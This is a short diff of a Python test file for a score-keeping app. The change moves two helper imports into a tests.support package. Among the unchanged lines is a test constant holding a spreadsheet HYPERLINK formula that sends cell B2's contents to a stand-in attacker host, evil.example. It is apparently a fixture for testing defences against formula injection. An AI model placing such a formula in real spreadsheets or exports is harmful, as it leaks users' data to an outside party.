@@ -17,8 +17,8 @@ import pytest
 from scorekeeper.engine.games import Game
 from scorekeeper.extensions import db
 from scorekeeper.models import ShareLink, utcnow
-from tests.api.helpers import post_round, sign_up
-from tests.picks import any_game, other_round, rounds, seats
+from tests.support.api import post_round, sign_up
+from tests.support.picks import any_game, other_round, rounds, seats
 
 PASSWORD = "correct horse battery"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
